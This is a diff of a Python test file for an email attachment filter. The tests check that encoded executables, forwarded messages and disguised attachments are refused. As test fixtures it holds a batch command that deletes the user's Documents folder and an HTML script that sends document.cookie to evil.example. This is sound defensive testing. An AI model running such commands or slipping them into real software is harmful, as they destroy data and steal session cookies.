@@ -18,26 +18,8 @@ from policy.decision import Reason
 from tests.policy import corpus as c
 
 REFUSED = Reason.ATTACHMENT_TYPE_REFUSED
-SENDER = "claire.martin@demo.mssante.fr"
 
 
-def _exe_b64() -> bytes:
-    """An executable's base64 with no padding (its length a multiple of 3)."""
-    exe = c.exe()
-    exe += b"\x00" * (-len(exe) % 3)
-    encoded = base64.b64encode(exe)
-    assert not encoded.endswith(b"=")
-    return encoded
-
-
-def _message(part_headers: bytes, body: bytes) -> bytes:
-    """A text body and one attachment part written as given."""
-    return (
-        f"From: {SENDER}\r\nTo: paul.lefevre@demo.mssante.fr\r\nSubject: t\r\n".encode()
-        + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=XX\r\n\r\n"
-        + b"--XX\r\nContent-Type: text/plain\r\n\r\nBonjour\r\n--XX\r\n"
-        + part_headers + b"\r\n" + body + b"\r\n--XX--\r\n"
-    )
 
 
 @pytest.mark.parametrize(
@@ -47,10 +29,10 @@ def _message(part_headers: bytes, body: bytes) -> bytes:
 def test_an_encoding_email_does_not_decode_exactly_does_not_hide_an_executable(
     encoding: bytes,
 ) -> None:
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
         b"Content-Transfer-Encoding: " + encoding + b"\r\n",
-        _exe_b64(),
+        c.exe_base64(),
     )
     decision = check_message(raw).decision
     assert decision.reason is REFUSED, decision
@@ -58,7 +40,7 @@ def test_an_encoding_email_does_not_decode_exactly_does_not_hide_an_executable(
 
 
 def test_a_trailing_space_after_a_known_encoding_is_still_that_encoding() -> None:
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: application/pdf; name="cr.pdf"\r\nContent-Transfer-Encoding: base64 \r\n',
         base64.encodebytes(c.pdf()).replace(b"\n", b"\r\n"),
     )
@@ -66,10 +48,10 @@ def test_a_trailing_space_after_a_known_encoding_is_still_that_encoding() -> Non
 
 
 def test_a_repeated_transfer_encoding_is_refused() -> None:
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
         b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n",
-        _exe_b64(),
+        c.exe_base64(),
     )
     decision = check_message(raw).decision
     assert decision.reason is REFUSED
@@ -78,10 +60,10 @@ def test_a_repeated_transfer_encoding_is_refused() -> None:
 
 @pytest.mark.parametrize("tail", [b"A", b"A==", b"=A", b"!A"])
 def test_base64_with_one_character_too_many_does_not_hide_an_executable(tail: bytes) -> None:
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: application/octet-stream; name="scan.bin"\r\n'
         b"Content-Transfer-Encoding: base64\r\n",
-        _exe_b64() + tail,
+        c.exe_base64() + tail,
     )
     decision = check_message(raw).decision
     assert decision.reason is REFUSED, decision
@@ -90,7 +72,7 @@ def test_base64_with_one_character_too_many_does_not_hide_an_executable(tail: by
 
 def test_base64_with_ignorable_garbage_is_judged_decoded() -> None:
     body = base64.encodebytes(c.pdf()).replace(b"\n", b"!\r\n")
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: application/pdf; name="cr.pdf"\r\nContent-Transfer-Encoding: base64\r\n',
         body,
     )
@@ -102,12 +84,12 @@ def test_an_encoded_forwarded_message_is_refused(encoding: bytes) -> None:
     inner = (
         b"From: x@autre.mssante.fr\r\nSubject: i\r\nMIME-Version: 1.0\r\n"
         b'Content-Type: application/octet-stream; name="a.exe"\r\n'
-        b"Content-Transfer-Encoding: base64\r\n\r\n" + _exe_b64() + b"\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\n" + c.exe_base64() + b"\r\n"
     )
     body = (
         base64.encodebytes(inner).replace(b"\n", b"\r\n") if encoding == b"base64" else inner
     )
-    raw = _message(
+    raw = c.raw_message(
         b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: " + encoding + b"\r\n",
         body,
     )
@@ -123,7 +105,7 @@ def test_a_plain_forwarded_message_still_passes() -> None:
         b"Content-Transfer-Encoding: base64\r\n\r\n"
         + base64.encodebytes(c.pdf()).replace(b"\n", b"\r\n")
     )
-    raw = _message(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 7bit\r\n", inner)
+    raw = c.raw_message(b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: 7bit\r\n", inner)
     assert check_message(raw).decision.allowed
 
 
@@ -146,13 +128,13 @@ BATCH = b'rd /s /q "%USERPROFILE%\\Documents"\r\n'
     ],
 )
 def test_every_file_name_of_an_attachment_is_checked(headers: bytes) -> None:
-    decision = check_message(_message(headers, BATCH)).decision
+    decision = check_message(c.raw_message(headers, BATCH)).decision
     assert decision.reason is REFUSED, decision
     assert decision.detail == "nettoyage.bat: file name extension .bat not accepted"
 
 
 def test_agreeing_names_still_pass() -> None:
-    raw = _message(
+    raw = c.raw_message(
         b'Content-Type: text/plain; name="notes.txt"\r\n'
         b'Content-Disposition: attachment; filename="notes.txt"\r\n',
         b"Tension 12/8, revoir dans un mois.\r\n",
@@ -168,7 +150,7 @@ def test_an_html_page_behind_a_first_line_of_text_is_refused(name: str) -> None:
         b"Bonjour,\n<html><body><script>fetch('https://evil.example/?'+document.cookie)"
         b"</script></body></html>\n"
     )
-    raw = _message(
+    raw = c.raw_message(
         f'Content-Type: text/plain; name="{name}"\r\n'
         f'Content-Disposition: attachment; filename="{name}"\r\n'.encode(),
         page,
